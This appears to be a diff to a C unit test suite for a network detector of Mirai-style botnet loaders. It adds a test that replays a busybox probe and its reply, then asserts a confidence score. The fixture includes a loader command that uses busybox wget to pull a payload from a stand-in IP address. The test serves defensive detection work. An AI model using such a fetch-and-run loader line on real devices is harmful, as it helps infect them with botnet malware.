@@ -167,6 +167,20 @@ static void test_loader(void **state)
 	assert_int_equal(last(play)->to_role, ROLE_TARGET);
 }
 
+/* A stranger types what a loader does, and the answers too, at a port that obeys nobody. */
+static void test_typed_at_an_open_port(void **state)
+{
+	struct play *play = *state;
+	struct app_event event = talk(play, OUTSIDE, OURS, 2525);
+
+	say(play, &event, 0, LOOKS_MIRAI_LOADER, 5, "/bin/busybox ECCHI");
+	say(play, &event, 0, LOOKS_MIRAI_LOADER, 6, "ECCHI: applet not found");
+	event.looks.traits = TRAIT_DOWNLOAD;
+	say(play, &event, 0, LOOKS_MIRAI_LOADER, 7,
+		"/bin/busybox wget http://198.51.100.9/a; /bin/busybox ECCHI");
+	assert_true(found(play, OURS) < 0.6F);
+}
+
 /* An administrator of a small device. */
 static void test_not_loader(void **state)
 {
@@ -257,6 +271,7 @@ int main(void)
 		cmocka_unit_test_setup_teardown(test_mirai_order, set_up, tear_down),
 		cmocka_unit_test_setup_teardown(test_not_obeyed, set_up, tear_down),
 		cmocka_unit_test_setup_teardown(test_loader, set_up, tear_down),
+		cmocka_unit_test_setup_teardown(test_typed_at_an_open_port, set_up, tear_down),
 		cmocka_unit_test_setup_teardown(test_not_loader, set_up, tear_down),
 		cmocka_unit_test_setup_teardown(test_gafgyt, set_up, tear_down),
 		cmocka_unit_test_setup_teardown(test_byob, set_up, tear_down),
